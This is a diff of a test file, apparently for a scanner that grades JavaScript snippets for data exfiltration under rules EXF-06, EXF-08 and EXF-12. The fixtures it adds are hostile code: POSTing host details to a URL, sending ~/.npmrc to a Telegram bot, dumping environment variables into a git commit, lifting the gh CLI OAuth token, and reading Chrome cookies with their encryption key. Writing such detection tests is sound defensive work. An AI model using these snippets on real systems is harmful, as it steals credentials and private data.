@@ -37,11 +37,16 @@ describeVerdicts("EXF-05", {
 });
 
 describeVerdicts("EXF-06", {
-  blocks: {},
-  warns: {
-    "facts about the machine at load": `
+  blocks: {
+    "whose machine it is": `
       const os = require("os");
       const data = { h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), c: process.cwd() };
+      fetch("${url}", { method: "POST", body: JSON.stringify(data) });`,
+  },
+  warns: {
+    "which machine it is": `
+      const os = require("os");
+      const data = { h: os.hostname(), d: os.homedir(), n: os.networkInterfaces() };
       fetch("${url}", { method: "POST", body: JSON.stringify(data) });`,
   },
   passes: {
@@ -92,6 +97,9 @@ describeVerdicts("EXF-08", {
     "a bot": `
       const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");
       require("https").get("https://api.telegram.org/bot1:x/sendMessage?text=" + encodeURIComponent(t));`,
+    "a commit of the environment": `
+      const { spawnSync } = require("child_process");
+      spawnSync("git", ["commit", "-m", JSON.stringify(process.env)], { env: { ...process.env } });`,
     "a new repository": `
       const { Octokit } = require("@octokit/rest");
       const o = new Octokit({ auth: process.env.GITHUB_TOKEN });
@@ -105,6 +113,15 @@ describeVerdicts("EXF-08", {
        const o = new Octokit({ auth: process.env.GITHUB_TOKEN });
        o.rest.repos.createRelease({ owner: "a", repo: "b", tag_name: process.argv[2] });`,
     ),
+    "a commit in a process with the environment of this one": `
+      const { spawnSync } = require("child_process");
+      exports.snapshot = (cwd) => spawnSync("git", ["commit", "-m", "x"], { cwd, env: { ...process.env, HOME: cwd } });`,
+    "a release command that logs in with what another tool keeps": asCommand(`
+      const fs = require("fs"), os = require("os");
+      const login = () => /oauth_token: (.+)/.exec(fs.readFileSync(os.homedir() + "/.config/gh/hosts.yml", "utf8"))[1];
+      const ask = (path) => fetch("https://api.github.com" + path, { headers: { authorization: "Bearer " + login() } });
+      const commit = (text) => require("child_process").execSync("git commit -m x -- " + text);
+      ask("/user").then((r) => r.json()).then(() => commit("CHANGELOG.md"));`),
     "a message of the caller": `exports.notify = (text) => fetch(process.env.SLACK_WEBHOOK_URL, { method: "POST", body: text });`,
   },
 });
@@ -165,11 +182,21 @@ describeVerdicts("EXF-12", {
     ),
   },
   warns: {
+    "a library for cookies and the key to them": `
+      const fs = require("fs"), os = require("os"), dir = os.homedir() + "/.config/google-chrome/";
+      exports.key = () => JSON.parse(fs.readFileSync(dir + "Local State", "utf8")).os_crypt.encrypted_key;
+      exports.cookies = () => fs.readFileSync(dir + "Default/Cookies");`,
     "a library for cookies": `
       const fs = require("fs"), os = require("os");
       exports.cookies = () => fs.readFileSync(os.homedir() + "/.config/google-chrome/Default/Cookies");`,
   },
   passes: {
+    "the port of a browser that is open": `
+      const fs = require("fs"), os = require("os");
+      exports.port = () => fs.readFileSync(os.homedir() + "/.config/google-chrome/Default/DevToolsActivePort", "utf8").split("\n")[0];`,
+    "which profile was used last": `
+      const fs = require("fs"), os = require("os");
+      exports.last = () => JSON.parse(fs.readFileSync(os.homedir() + "/.config/google-chrome/Local State", "utf8")).profile.last_used;`,
     "a test for a browser": `exports.has = () => require("fs").existsSync("/usr/bin/google-chrome");`,
     "a folder of the caller": `exports.read = (dir) => require("fs").readFileSync(dir + "/Cookies");`,
     "a command that starts a browser": asCommand(
